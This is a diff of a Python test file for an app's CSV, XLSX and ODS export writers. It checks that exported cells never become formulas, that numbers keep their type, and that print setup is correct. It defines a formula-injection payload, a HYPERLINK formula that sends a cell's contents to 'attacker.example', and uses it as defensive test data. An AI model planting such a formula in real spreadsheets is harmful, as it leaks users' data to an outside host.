@@ -1,8 +1,10 @@
-"""Spreadsheet cells: formula injection neutralised, and the CSV, XLSX and ODS writers read back by
-independent readers (csv, openpyxl, odfpy), with accents, a BOM, numbers kept as numbers."""
+"""Spreadsheet cells: formula injection neutralised in CSV, text kept as typed in string cells of
+XLSX and ODS, and the writers read back by independent readers (csv, openpyxl, odfpy, the raw XML),
+with accents, a BOM, numbers kept as numbers, and the print setup of every sheet."""
 
 import csv
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -13,7 +15,7 @@ from odf.opendocument import load
 from app.exports.cells import neutralise
 from app.exports.enjeux import ItemLink, join_sources, source_items
 from app.exports.names import download_name, slug
-from app.exports.tabular import sheet_name, to_csv, to_json, to_ods, to_xlsx
+from app.exports.tabular import Fixed, sheet_name, to_csv, to_json, to_ods, to_xlsx
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Cliquez")'
 HEADERS = ["rang", "enjeu", "score", "accord", "retenu", "note"]
@@ -83,21 +85,49 @@ def test_csv_refuses_an_unknown_separator_and_ragged_rows() -> None:
 # ---------------------------------------------------------------- XLSX
 
 
-def test_xlsx_round_trip_keeps_numbers_and_turns_formulas_into_text() -> None:
-    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(HEADERS, ROWS, "Enjeux : classés [test]")))
+def test_xlsx_round_trip_keeps_numbers_and_text_as_typed_in_string_cells() -> None:
+    data = to_xlsx(HEADERS, ROWS, "Enjeux : classés [test]")
+    book = openpyxl.load_workbook(io.BytesIO(data))
     sheet = book.active
     assert sheet.title == "Enjeux classés test"
     values = [[c.value for c in row] for row in sheet.iter_rows()]
     assert values[0] == HEADERS
-    assert values[1] == [1, "'" + HYPERLINK, 12, 0.4235, "oui", None]
+    assert values[1] == [1, HYPERLINK, 12, 0.4235, "oui", None]
     assert values[2] == [2, "Mieux équiper les lieux et/ou les publics ; « guillemets »", -3, 0.5, "non",
                          "ligne 1\nligne 2"]
-    assert values[3] == [3, "'@SUM(A1)", 0, None, "non", "'+33 5 53 00 00 00"]
-    assert values[4][1] == "'-2+3" and values[4][5] == "'\tcaché"
+    assert values[3] == [3, "@SUM(A1)", 0, None, "non", "+33 5 53 00 00 00"]
+    assert values[4][1] == "-2+3" and values[4][5] == "\tcaché"
     for row in sheet.iter_rows(min_row=2):
         assert row[1].data_type == "s"  # text, never a formula ("f")
     assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
     assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
+
+
+def test_xlsx_sheets_print_landscape_fitted_to_width_with_the_header_on_every_page() -> None:
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(HEADERS, ROWS, "Enjeux", "Atelier — enjeux"))).active
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
+    assert sheet.print_title_rows == "$1:$1"
+    assert sheet.oddHeader.center.text == "Atelier — enjeux"
+    # long text wraps, and no row has a fixed height that would cut it
+    assert sheet["B3"].alignment.wrap_text or sheet["F3"].alignment.wrap_text
+    assert all(d.ht is None for d in sheet.row_dimensions.values())
+
+
+def test_a_fixed_number_is_rounded_in_csv_and_exact_behind_two_decimals_in_spreadsheets() -> None:
+    rows = [[Fixed(0.525), Fixed(0.125), Fixed(2.675), Fixed(1 / 3)]]
+    head = ["a", "b", "c", "d"]
+    assert to_csv(head, rows).decode("utf-8-sig").splitlines()[1] == "0,53;0,13;2,68;0,33"
+    assert to_csv(head, rows, sep=",").decode("utf-8-sig").splitlines()[1] == "0.53,0.13,2.68,0.33"
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(head, rows, "W"))).active
+    assert [c.value for c in sheet[2]] == [0.525, 0.125, 2.675, 1 / 3]
+    assert {c.number_format for c in sheet[2]} == {"0.00"} and {c.data_type for c in sheet[2]} == {"n"}
+    _, ods = _ods_rows(to_ods(head, rows, "W"))
+    assert ods[1] == [("float", "0.525", "0,53"), ("float", "0.125", "0,13"), ("float", "2.675", "2,68"),
+                      ("float", repr(1 / 3), "0,33")]
 
 
 # ---------------------------------------------------------------- ODS
@@ -122,15 +152,28 @@ def test_ods_round_trip_read_by_odfpy() -> None:
     assert name == "Enjeux"
     assert [c[2] for c in rows[0]] == HEADERS
     assert rows[1][0] == ("float", "1", "1")
-    assert rows[1][1] == ("string", None, "'" + HYPERLINK)
+    assert rows[1][1] == ("string", None, HYPERLINK)
     assert rows[1][3][:2] == ("float", "0.4235")
     assert rows[1][4] == ("string", None, "oui")
     assert rows[2][1] == ("string", None, "Mieux équiper les lieux et/ou les publics ; « guillemets »")
     assert rows[2][2][:2] == ("float", "-3")
-    assert rows[3][1] == ("string", None, "'@SUM(A1)")
-    assert rows[3][5][2] == "'+33 5 53 00 00 00"
-    assert rows[4][1][2] == "'-2+3"
+    assert rows[3][1] == ("string", None, "@SUM(A1)")
+    assert rows[3][5] == ("string", None, "+33 5 53 00 00 00")
+    assert rows[4][1] == ("string", None, "-2+3")
     assert len(rows) == 5
+    content = zipfile.ZipFile(io.BytesIO(to_ods(HEADERS, ROWS, "Enjeux"))).read("content.xml").decode()
+    assert "table:formula" not in content
+
+
+def test_ods_sheets_print_landscape_fitted_to_width_with_the_header_on_every_page() -> None:
+    doc = load(io.BytesIO(to_ods(HEADERS, ROWS, "Enjeux", "Atelier — enjeux")))
+    (sheet,) = doc.spreadsheet.getElementsByType(odf_table.Table)
+    (header_rows,) = sheet.getElementsByType(odf_table.TableHeaderRows)
+    assert [str(p) for p in header_rows.getElementsByType(odf_text.P)] == HEADERS
+    styles = zipfile.ZipFile(io.BytesIO(to_ods(HEADERS, ROWS, "Enjeux", "Atelier — enjeux"))).read(
+        "styles.xml").decode()
+    assert 'style:print-orientation="landscape"' in styles and 'style:scale-to-X="1"' in styles
+    assert "Atelier — enjeux" in styles
 
 
 def test_writers_cope_with_no_rows() -> None:
